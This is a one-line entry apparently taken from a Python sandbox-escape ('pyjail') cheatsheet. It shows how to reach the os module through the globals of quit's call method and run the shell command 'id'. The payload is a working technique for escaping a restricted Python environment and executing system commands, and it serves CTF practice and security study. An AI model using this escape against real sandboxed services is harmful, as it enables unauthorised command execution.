# Source: github.com/Shirajuki/shirajuki.github.io src/routes/blog/pyjail-cheatsheet.md (site-module constants)
# Family: exit-quit
# What: quit.__call__.__globals__ is site's globals: sys and os
quit.__call__.__globals__["sys"].modules["os"].system("id")
